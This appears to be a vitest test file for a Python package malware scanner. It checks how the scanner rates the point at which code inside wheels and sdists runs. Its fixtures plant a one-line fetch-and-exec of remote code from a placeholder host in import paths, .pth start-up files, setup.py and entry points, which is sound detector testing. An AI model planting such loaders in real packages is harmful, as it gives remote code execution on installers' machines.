import { describe, expect, test } from 'vitest';
import { inspect, python, sdist, wheel } from '../../support/inspect.ts';

const FETCH = "urllib.request.urlopen('http://files.example.invalid/p').read()";
const atImport = python('import urllib.request', `exec(${FETCH})`);
const onCall = python('import urllib.request', '', 'def go():', `    exec(${FETCH})`);

/** When the malware of an archive runs; undefined: none was found, or it weighs nothing. */
async function contextIn(packed: ReturnType<typeof wheel>): Promise<string | undefined> {
  const found = (await inspect('remote-code', packed)).filter(({ class: kind, context }) => {
    return kind === 'malware' && context !== 'test' && context !== 'none';
  });
  return found[0]?.context;
}

describe('whatever is in site-packages can be imported', () => {
  test.each([
    ['a package of tests at the top', { 'tests/__init__.py': atImport }],
    ['a test beside the package', { 'pkg/__init__.py': '', 'test_pkg.py': atImport }],
    ['a test inside the package', { 'pkg/__init__.py': '', 'pkg/tests/test_a.py': atImport }],
    ['a task', { 'pkg/__init__.py': '', 'pkg/tasks.py': atImport }],
    ['a test in purelib', { 'pkg/__init__.py': '', '*.data/purelib/tests/__init__.py': atImport }],
  ])('%s runs at import', async (_what, files) => {
    expect(await contextIn(wheel(files, { name: 'pkg' }))).toBe('import');
  });

  test.each([
    ['a module', { 'pkg/__init__.py': 'from tests import go\ngo()\n', 'tests/__init__.py': onCall }, {}, 'import'],
    [
      'a start-up line',
      { 'pkg/__init__.py': '', 'pkg.pth': 'import tests; tests.go()\n', 'tests.py': onCall },
      {},
      'start-up',
    ],
    [
      'a command',
      { 'pkg/__init__.py': '', 'tests/run.py': onCall },
      { entryPoints: '[console_scripts]\ngo = tests.run:go\n' },
      'entry-point',
    ],
    [
      'a plug-in',
      { 'pkg/__init__.py': '', 'pkg/tests/plug.py': onCall },
      { entryPoints: '[pytest11]\ngo = pkg.tests.plug:go\n' },
      'import',
    ],
    ['another distribution', { 'pkg/__init__.py': '', 'tests/__init__.py': onCall }, {}, 'call'],
  ])('a test that %s calls runs then', async (_who, files, options, context) => {
    expect(await contextIn(wheel(files, { name: 'pkg', ...options }))).toBe(context);
  });

  test('a suspicion weighs less in a test that nothing imports, and its full weight where something does', async () => {
    const suspicion = python('import subprocess', "subprocess.call(['whoami'])");
    const files = { 'pkg/__init__.py': '', 'pkg/tests/__init__.py': '', 'pkg/tests/helper.py': suspicion };

    const [idle] = await inspect('unasked-process', wheel(files));
    const [reached] = await inspect(
      'unasked-process',
      wheel({ ...files, 'pkg/__init__.py': 'from pkg.tests import helper\n' }),
    );

    expect(idle?.score).toBeGreaterThan(0);
    expect(idle?.score).toBeLessThan(reached?.score ?? 0);
  });
});

describe('an sdist', () => {
  const setup = (...lines: readonly string[]): string =>
    python('from setuptools import find_packages, setup', ...lines);

  test.each([
    ['whose package has the name of a folder for examples', { 'example/__init__.py': '', 'example/core.py': onCall }],
    ['whose package has a module of tasks', { 'pkg/__init__.py': '', 'pkg/tasks.py': onCall }],
    [
      'whose packages lie among the tools',
      {
        'setup.py': setup("setup(name='x', package_dir={'': 'tools'}, packages=['pkg'])"),
        'tools/pkg/__init__.py': onCall,
      },
    ],
    [
      'whose package is made of the documentation',
      {
        'setup.py': setup("setup(name='x', packages=['pkg'], package_dir={'pkg': 'docs/impl'})"),
        'docs/impl/__init__.py': onCall,
      },
    ],
    [
      'whose folders are computed',
      {
        'setup.py': setup("FOLDERS = {'': ''.join(['to', 'ols'])}", "setup(name='x', package_dir=FOLDERS)"),
        'tools/pkg/__init__.py': onCall,
      },
    ],
    [
      'whose folders are unknown',
      {
        'setup.py': setup('import json', "setup(name='x', package_dir=json.load(open('f')))"),
        'tools/pkg/__init__.py': onCall,
      },
    ],
    [
      'whose packages are searched in a folder of setup.cfg',
      {
        'setup.cfg': '[options]\npackages = find:\n[options.packages.find]\nwhere = contrib\n',
        'contrib/pkg/__init__.py': onCall,
      },
    ],
    [
      'that installs its tests',
      { 'setup.py': setup("setup(name='x', packages=['pkg', 'tests'])"), 'tests/__init__.py': onCall },
    ],
  ])('%s is read like any other', async (_what, files) => {
    expect(await contextIn(sdist(files))).toBe('call');
  });

  test('is not calmed by a test that calls what it does', async () => {
    const files = {
      'tests/test_a.py': 'from pkg.late import go\n\ndef test_go():\n    go()\n',
      'pkg/__init__.py': '',
      'pkg/late.py': onCall,
    };

    expect(await contextIn(sdist(files))).toBe('call');
  });

  test('runs what its tests do at their top where they are imported, and weighs nothing that only tests call', async () => {
    const files = {
      'setup.py': 'from setuptools import find_packages, setup\nsetup(packages=find_packages())\n',
      'pkg/__init__.py': '',
    };
    expect(await contextIn(sdist({ ...files, 'tests/__init__.py': atImport }))).toBe('import');
    expect(await contextIn(sdist({ ...files, 'tests/test_a.py': onCall }))).toBeUndefined();
  });
});

describe('what only a developer runs', () => {
  test.each([
    ['an example', 'examples/bot.py'],
    ['a test outside every package', 'test/send.py'],
    ['a chore of a hidden folder', '.ci/scripts/prepare.py'],
    ['an environment packed by mistake', 'venv/Lib/site-packages/other/__init__.py'],
  ])('%s of an sdist is a test', async (_what, path) => {
    expect(
      await contextIn(
        sdist({ 'setup.py': 'import setuptools\nsetuptools.setup()\n', 'pkg/__init__.py': '', [path]: atImport }),
      ),
    ).toBeUndefined();
  });

  test('an example that setup.py imports runs at install', async () => {
    const files = {
      'setup.py': 'from examples import bot\nimport setuptools\nsetuptools.setup()\n',
      'pkg/__init__.py': '',
      'examples/bot.py': atImport,
    };
    expect(await contextIn(sdist(files))).toBe('install');
  });
});

describe('a module beside the packages of an sdist', () => {
  const packages = "setup(name='x', packages=['pkg'])";
  const setup = (...lines: readonly string[]): string => python('from setuptools import setup', ...lines);
  const files = { 'pkg/__init__.py': '', 'setup.py': setup(packages) };

  test('that no build installs is a tool: it runs when somebody starts it', async () => {
    expect(await contextIn(sdist({ ...files, 'simulate.py': atImport }))).toBe('entry-point');
    expect(await contextIn(sdist({ ...files, 'sitecustomize.py': atImport }))).toBe('entry-point');
    expect(await inspect('start-up-code', sdist({ ...files, 'sitecustomize.py': '' }))).toEqual([]);
  });

  test.each([
    ['a comment about the coding', `# -*- coding: utf-8 -*-\n${setup(packages)}`],
    ['a function of many arguments', setup('def read(*names, **options):', '    pass', packages)],
    ['data of the package', setup("setup(packages=['pkg'], package_data={'pkg': ['*.css', '*cfg']})")],
    ['what a search leaves out', setup("setup(packages=['pkg'], exclude=['*.tests', '*'])")],
  ])('that %s stands in its build does not make it installed', async (_what, build) => {
    expect(await contextIn(sdist({ ...files, 'setup.py': build, 'simulate.py': atImport }))).toBe('entry-point');
  });

  test('is none either in a folder that is no package, unless a search for namespaces finds it', async () => {
    const found = setup("setup(name='x', packages=find_namespace_packages())");

    expect(await contextIn(sdist({ ...files, 'start/late.py': atImport }))).toBe('entry-point');
    expect(await contextIn(sdist({ ...files, 'setup.py': found, 'start/late.py': atImport }))).toBe('import');
    expect(
      await contextIn(
        sdist({ ...files, 'setup.py': setup("setup(packages=['pkg', 'start'])"), 'start/late.py': atImport }),
      ),
    ).toBe('import');
  });

  test('nor in one whose name a search for namespaces is not told', async () => {
    const told = (list: string): string =>
      setup(`setup(name='x', packages=find_namespace_packages(include=[${list}]))`);
    const at = (build: string, ...more: string[]): Promise<string | undefined> =>
      contextIn(sdist({ 'pkg/__init__.py': '', 'setup.py': `${build}${more.join('')}`, 'start/late.py': atImport }));

    expect(await at(told("'pkg', 'pkg.*'"))).toBe('entry-point');
    expect(await at(told("'pkg*'"))).toBe('entry-point');
    expect(await at(told("'*'"))).toBe('import');
    expect(await at(told("'pkg', 'sta*'"))).toBe('import');
    expect(await at(told("'pkg'"), '# find_namespace_packages()\n')).toBe('import');
    const found = 'from setuptools import setup\nsetup()\n';
    const toml = (table: string): ReturnType<typeof sdist> =>
      sdist({
        'pkg/__init__.py': '',
        'setup.py': found,
        'pyproject.toml': `[tool.setuptools.packages.find]\n${table}\n`,
        'start/late.py': atImport,
      });
    expect(await contextIn(toml('include = ["pkg*"]'))).toBe('entry-point');
    expect(await contextIn(toml('exclude = ["docs"]'))).toBe('import');
  });

  test('nor where tables of the configuration speak of it that no build reads', async () => {
    const toml = (...lines: string[]): Promise<string | undefined> =>
      contextIn(
        sdist({
          'pkg/__init__.py': '',
          'pyproject.toml': python('[tool.poetry]', "packages = [{ include = 'pkg' }]", ...lines),
          'late.py': atImport,
        }),
      );

    expect(await toml('[tool.poetry.dependencies]', 'requests = "*"', '[tool.ruff]', "include = ['late.py']")).toBe(
      'entry-point',
    );
    expect(await toml('[tool.other]', 'x = "*"')).toBe('import');
    expect(await toml('text = """', '[tool.ruff]', '"""', "include = ['late.py']")).toBe('import');
  });

  test('in a folder of tools is none, though it is a package, when the search for packages is told others', async () => {
    const found = (list: string): Promise<string | undefined> =>
      contextIn(
        sdist({
          'pkg/__init__.py': '',
          'contrib/__init__.py': '',
          'contrib/late.py': atImport,
          'setup.py': setup(`setup(packages=find_packages(${list}))`),
        }),
      );

    expect(await found('')).toBe('import');
    expect(await found("include=['pkg', 'contrib']")).toBe('import');
    expect(await found("include=['pkg', 'pkg.*']")).toBeUndefined();
  });

  test('of tests is none where a backend looks for no packages, unless it is named or imported', async () => {
    const built = (backend: string, ...more: string[]): Promise<string | undefined> =>
      contextIn(
        sdist({
          'pkg/__init__.py': more.includes('import') ? 'import tests.late\n' : '',
          'tests/__init__.py': '',
          'tests/late.py': atImport,
          'pyproject.toml': python(
            '[build-system]',
            `build-backend = '${backend}'`,
            ...more.filter((l) => l !== 'import'),
          ),
        }),
      );

    expect(await built('flit_core.buildapi')).toBeUndefined();
    expect(await built('poetry.core.masonry.api', '[tool.poetry]', "packages = [{ include = 'pkg' }]")).toBeUndefined();
    expect(await built('poetry.core.masonry.api', '[tool.poetry]', "packages = [{ include = 'tests' }]")).toBe(
      'import',
    );
    expect(await built('hatchling.build', '[tool.hatch.build]', "include = ['**/*.py']")).toBe('import');
    expect(await built('flit_core.buildapi', "backend-path = ['.']")).toBe('import');
    expect(await built('flit_core.buildapi', 'import')).toBe('import');
    expect(await built('setuptools.build_meta')).toBeUndefined();
    expect(await built('setuptools.build_meta', '[tool.setuptools]', "packages = ['pkg', 'tests']")).toBe('import');
    expect(await built('setuptools.build_meta', '[tool.setuptools.packages.find]')).toBe('import');
    expect(await built('other.backend')).toBe('import');
  });

  test('of tests is none where pbr takes the package of the project, unless more are named', async () => {
    const built = (call: string, cfg: string): Promise<string | undefined> =>
      contextIn(
        sdist({
          'pkg/__init__.py': '',
          'examples/__init__.py': '',
          'examples/late.py': atImport,
          'setup.py': setup(call),
          'setup.cfg': `[metadata]\nname = pkg\n${cfg}`,
        }),
      );

    expect(await built("setup(setup_requires=['pbr'], pbr=True)", '')).toBeUndefined();
    expect(await built('setup(pbr=True)', '[files]\npackages =\n    pkg\n    examples\n')).toBe('import');
    expect(await built('setup(pbr=True, **MORE)', '')).toBe('import');
    expect(await built('setup(**MORE)', '')).toBe('import');
  });

  test('with a name that no statement imports is started, unless the package loads it by that name', async () => {
    const loading = "import importlib\nimportlib.import_module('late-start')\n";

    expect(await contextIn(wheel({ 'pkg/__init__.py': '', 'late-start.py': atImport }))).toBe('entry-point');
    expect(await contextIn(wheel({ 'pkg/__init__.py': loading, 'late-start.py': atImport }))).toBe('import');
  });

  test.each([
    ['setup() names it', { 'setup.py': setup("setup(packages=['pkg'], py_modules=['late'])") }, 'import'],
    ['modules are computed', { 'setup.py': setup("setup(packages=['pkg'], py_modules=find())") }, 'import'],
    ['a pattern takes it', { 'setup.py': setup("setup(packages=['pkg'], data_files=[('', glob('*.py'))])") }, 'import'],
    ['its folder is a package', { 'setup.py': setup("setup(packages=['', 'pkg'])") }, 'import'],
    ['setup.cfg names it', { 'setup.py': setup('setup()'), 'setup.cfg': '[options]\npy_modules = late\n' }, 'import'],
    ['arguments are handed over whole', { 'setup.py': setup('setup(**ARGUMENTS)') }, 'import'],
    ['a package imports it', { 'pkg/__init__.py': 'import late\n' }, 'import'],
    ['setup.py imports it', { 'setup.py': setup('import late', packages) }, 'install'],
    ['it is the module of the project', { 'setup.py': setup("setup(name='late', packages=['pkg'])") }, 'import'],
  ])('is installed where %s', async (_why, change, context) => {
    expect(await contextIn(sdist({ ...files, 'late.py': atImport, ...change }))).toBe(context);
  });

  test('is installed where there is no package', async () => {
    expect(await contextIn(sdist({ 'setup.py': setup("setup(name='x')"), 'late.py': atImport }))).toBe('import');
  });

  test('a site hook that the build names is one', async () => {
    const named = setup("setup(packages=['pkg'], data_files=[('lib', ['sitecustomize.py'])])");

    expect(await contextIn(sdist({ ...files, 'setup.py': named, 'sitecustomize.py': atImport }))).toBe('start-up');
  });
});
